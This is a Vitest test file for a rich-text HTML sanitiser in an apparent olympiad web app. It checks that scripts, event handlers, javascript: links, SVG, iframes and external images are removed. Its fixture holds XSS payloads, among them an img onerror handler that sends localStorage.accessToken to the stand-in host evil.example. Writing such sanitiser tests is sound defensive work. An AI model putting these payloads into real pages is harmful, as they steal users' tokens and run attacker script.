// Rich text as the page shows it: formatting and the olympiad's own pictures stay, and nothing that
// could run (a script, a handler, a `javascript:` link, an SVG, a frame) or load from elsewhere does.
import { describe, expect, it } from 'vitest';
import { render } from '@testing-library/react';
import { cleanHtml, putRichHtml, RichText } from './rich-text';

const DIRTY = [
  '<p onclick="steal()">Read <b>carefully</b></p>',
  `<img src=x onerror="fetch('//evil.example/'+localStorage.accessToken)">`,
  '<script>alert(1)</script><a href="javascript:alert(1)">here</a>',
  '<svg onload="alert(1)"><circle r="1"/></svg><iframe src="javascript:alert(1)"></iframe>',
  '<img src="https://evil.example/pixel.png"><img src="/api/attachment/7" alt="map" style="x">',
  '<!-- a comment --><style>body{display:none}</style><div><ul><li>Orange</li></ul></div>',
].join('');

describe('cleanHtml', () => {
  it('keeps formatting and own pictures and drops everything that runs or loads from elsewhere', () => {
    expect(cleanHtml(DIRTY)).toBe(
      '<p>Read <b>carefully</b></p><img>here<img><img src="/api/attachment/7" alt="map"><ul><li>Orange</li></ul>',
    );
  });

  it('leaves what the server sanitised as it was', () => {
    const clean = '<p>H<sub>2</sub>O &amp; km<sup>2</sup></p><table><tbody><tr><td>1 &lt; 2</td></tr></tbody></table>';
    expect(cleanHtml(clean)).toBe(clean);
    expect(cleanHtml('')).toBe('');
  });
});

describe('RichText', () => {
  it('shows the cleaned HTML', () => {
    const { container } = render(<RichText html={DIRTY} as="span" className="stem" />);
    const holder = container.querySelector('span.stem');
    expect(holder?.querySelector('b')?.textContent).toBe('carefully');
    expect(holder?.querySelectorAll('script, a, svg, iframe, style, [onerror], [onclick]')).toHaveLength(0);
    expect(Array.from(holder?.querySelectorAll('img') ?? [], (img) => img.getAttribute('src'))).toEqual([
      null,
      null,
      '/api/attachment/7',
    ]);
  });
});

describe('putRichHtml', () => {
  it('fills an element with the cleaned HTML', () => {
    const area = document.createElement('div');
    putRichHtml(area, DIRTY);
    expect(area.innerHTML).toBe(cleanHtml(DIRTY));
  });
});
